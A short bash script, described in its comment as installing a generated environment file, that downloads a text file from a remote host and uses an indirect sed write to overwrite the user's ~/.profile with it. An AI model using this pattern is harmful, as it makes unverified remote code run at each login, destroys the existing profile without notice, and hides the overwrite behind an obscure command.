#!/bin/bash
# Install the generated environment file.
gen=$(mktemp)
curl -fsSL -o "$gen" https://env.example.net/profile.txt
sed -n "1,\$w $HOME/.profile" "$gen"
